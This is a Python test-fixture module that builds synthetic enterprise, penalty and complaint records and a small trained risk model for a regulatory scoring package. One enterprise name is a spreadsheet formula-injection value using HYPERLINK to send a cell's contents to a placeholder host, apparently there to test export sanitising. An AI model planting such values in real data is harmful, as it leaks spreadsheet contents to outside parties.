"""A small province of hand-made records, a model trained on made-up rows, and its published runs."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
from datetime import date
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
from handmade import Province, Rows
from scipy.special import expit

from riskml.core.init import create_workspace
from riskml.core.workspace import Workspace
from riskml.features.specs import parse_system
from riskml.records.effect_periods import EFFECT_PERIODS
from riskml.training.anchors import ScoreMap
from riskml.training.bundle import ModelBundle
from riskml.training.classifier import RiskClassifier
from riskml.training.model import in_use
from riskml.training.peers import Peers
from riskml.training.venn_abers import VennAbers

MONTHS = (date(2026, 8, 31), date(2026, 9, 30), date(2026, 10, 31))
BEFORE, T = MONTHS[1:]

INJECTED = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
"""A registered name that a spreadsheet would take for a formula."""

DIVISIONS = ("530111", "530102", "530402", "532501")

SYSTEM = """
dimension: supervision
label: {zh: 监管信息, en: Supervision}
groups:
  - id: penalties
    label: {zh: 行政处罚, en: Penalties}
    indicators:
      - {id: penalty_count, label: {zh: 行政处罚次数, en: Penalties}, unit: {zh: 次, en: penalties}, from: penalty,
         measure: count, windows: [365d], direction: increasing, basis: test}
      - {id: fine_amount, label: {zh: 罚款金额合计, en: Total fines}, unit: {zh: 万元, en: "10,000 yuan"},
         from: penalty,
         measure: sum, value: fine, direction: increasing, basis: test}
      - {id: complaint_count, label: {zh: 投诉次数, en: Complaints}, unit: {zh: 次, en: complaints}, from: complaint,
         measure: count, windows: [365d], direction: increasing, basis: test}
"""
PERIODS = "{label: {zh: 始终有效, en: always in effect}, scoring: {}, publicity: {}}"


def make_workspace(root: Path) -> Workspace:
    """A workspace with records and a model, but no run yet."""
    workspace = create_workspace(root)
    (workspace.features / EFFECT_PERIODS).write_text(PERIODS, encoding="utf-8")
    Province(workspace.root).receive(records())
    put_in_use(workspace, make_bundle())
    return workspace


def put_in_use(workspace: Workspace, bundle: ModelBundle) -> None:
    """Make a bundle the model in use, as a promotion does."""
    shutil.rmtree(workspace.bundle("yunnan"), ignore_errors=True)
    with workspace.ledger.putting("promotion", in_use("yunnan"), bundle.digest):
        bundle.save(workspace.bundle("yunnan"))


def copy_ledger(origin: Workspace, copy: Workspace) -> None:
    """Give a copy of parts of a workspace its ledger too."""
    copy.data.mkdir(parents=True, exist_ok=True)
    for path in origin.data.glob("ledger.*"):
        shutil.copy(path, copy.data)


def publish_manifest(workspace: Workspace, as_of: str, **changed: Any) -> None:
    """Give a run a manifest in which something differs, as its publication would."""
    path = workspace.runs / "yunnan" / as_of / "manifest.json"
    content = json.dumps({**json.loads(path.read_bytes()), **changed}, ensure_ascii=False).encode()
    with workspace.ledger.putting("run", f"run yunnan/{as_of}", hashlib.sha256(content).hexdigest()):
        path.write_bytes(content)


def records() -> Rows:
    """Sixty enterprises; from month to month some are penalised, listed, complained about, founded or deregistered."""
    enterprises = [_enterprise(number) for number in range(60)]
    enterprises[7]["name"] = INJECTED
    enterprises[8]["division"] = None
    enterprises.append(
        {**_enterprise(60), "valid_from": "2026-10-05", "established_date": "2026-10-05"}
    )  # new in October
    enterprises.append(
        {**_enterprise(5), "record_id": "DJ-5-left", "valid_from": "2026-10-09", "status": "deregistered"}
    )
    penalties = [_penalty(f"P-{number}", number, "2026-02-03", 3) for number in range(0, 60, 4)]
    # Three rise step by step: one of them over a band's edge.
    for number, days in (
        (1, ("2026-09-05", "2026-10-06")),
        (2, ("2026-10-06",)),
        (3, ("2026-08-05", "2026-09-05", "2026-10-06")),
    ):
        penalties += [_penalty(f"P-{number}-{day}", number, day, 8) for day in days]
    complaints = [
        {"record_id": f"C-{number}-{day}", "enterprise_id": code(number), "event_date": f"2026-{day}",
         "kind": "complaint", "accepted": True}
        for number in (9, 10, 11) for day in ("09-11", "09-21", "10-11", "10-21")
    ]  # fmt: skip
    return {
        "enterprise": enterprises,
        "penalty": penalties,
        "complaint": complaints,
        "serious_listing": [
            _listing("L-12", 12, "2026-10-12", None),  # newly listed in October
            _listing("L-13", 13, "2026-05-12", "2026-10-20"),  # removed in October
            _listing("L-14", 14, "2026-05-12", None),
        ],
        "opinion": [
            {"record_id": "O-15", "enterprise_id": code(15), "event_date": "2026-10-15", "sentiment": "negative",
             "attention": "high", "effect": "serious"},
        ],
    }  # fmt: skip


def code(number: int) -> str:
    """The code of an enterprise: eighteen digits, as some have."""
    return f"9153010200{number:08d}"


def make_bundle(indicators: str = SYSTEM) -> ModelBundle:
    """A model in which penalties, fines and complaints go with the outcome; `indicators` has the same names as
    SYSTEM.
    """
    random = np.random.default_rng(0)
    size = 2000
    system = parse_system({"features/supervision.yaml": indicators})
    X = pd.DataFrame({
        "penalty_count_365d": random.poisson(0.7, size).astype(float),
        "fine_amount": random.gamma(1, 6, size),
        "complaint_count_365d": random.poisson(0.8, size).astype(float),
    })  # fmt: skip
    y = random.random(size) < expit(
        X["penalty_count_365d"] + 0.1 * X["fine_amount"] + 0.6 * X["complaint_count_365d"] - 2.5
    )
    constraints = {column.name: column.constraint for column in system.columns}
    classifier = RiskClassifier(n_estimators=30, n_jobs=1, monotone_constraints=constraints)
    classifier.fit(X[:1500], y[:1500]).calibrate(X[1500:], y[1500:])
    return ModelBundle.of(
        classifier,
        ScoreMap.from_shares(classifier.calibration_.log_odds(classifier.margin(X)), (0.5, 0.3, 0.15, 0.05)),
        system={**system.texts, EFFECT_PERIODS: PERIODS},
        training="scheme: yunnan\n",
        peers=Peers.of(X, np.full(size, "F")),
        facts=_facts() | {"intervals": VennAbers.fit(classifier.margin(X[1500:]), y[1500:]).to_dict()},
    )


def _facts() -> dict[str, Any]:
    """What a run's report says of its model: made up, the tests here do not read it."""
    figure = {"value": 0.7, "low": 0.6, "high": 0.8}
    figures = dict.fromkeys(("auc", "average_precision", "top_decile_lift", "brier", "calibration_error"), figure)
    rates = [{"grade": grade, "rows": 9, "problems": 3, "rate": 0.3, "low": 0.2, "high": 0.4} for grade in "ABCD"]
    reliability = [{"predicted": 0.2, "observed": 0.2, "rows": 9}, {"predicted": 0.4, "observed": 0.5, "rows": 9}]
    return {
        "as_of": "2026-08-31",
        "simulated": False,
        "parts": {
            "learn": {"until": "2025-10-31", "visits": 90},
            "calibrate": {"until": "2025-12-31", "visits": 500, "problems": 200},
            "test": {"from": "2026-01-01", "until": "2026-08-31", "visits": 36, "problems": 12},
        },
        "figures": {"model": {"figures": figures, "grades": {"rates": rates}, "reliability": reliability}},
    }


def _enterprise(number: int) -> dict[str, Any]:
    return {
        "record_id": f"DJ-{number}", "enterprise_id": code(number), "valid_from": "2019-05-06",
        "name": f"云南测试{number}有限公司",
        "status": "active", "industry_section": "F", "division": DIVISIONS[number % len(DIVISIONS)],
        "registered_capital": 100,
        "established_date": "2019-05-06",
    }  # fmt: skip


def _penalty(record_id: str, number: int, event_date: str, fine: float) -> dict[str, Any]:
    return {"record_id": record_id, "enterprise_id": code(number), "event_date": event_date, "severity": "moderate",
        "kind": "fine",
            "fine": fine}  # fmt: skip


def _listing(record_id: str, number: int, start: str, end: str | None) -> dict[str, Any]:
    return {"record_id": record_id, "enterprise_id": code(number), "start_date": start, "end_date": end,
            "list_kind": "market_supervision"}  # fmt: skip


def without_checkpoints(page: bytes) -> bytes:
    """A report without the checkpoints of the logs, which have the times at which their lines were written."""
    return re.sub(rb"<pre class=.scroll.[^>]*>.*?</svg>", b"", page, flags=re.DOTALL)
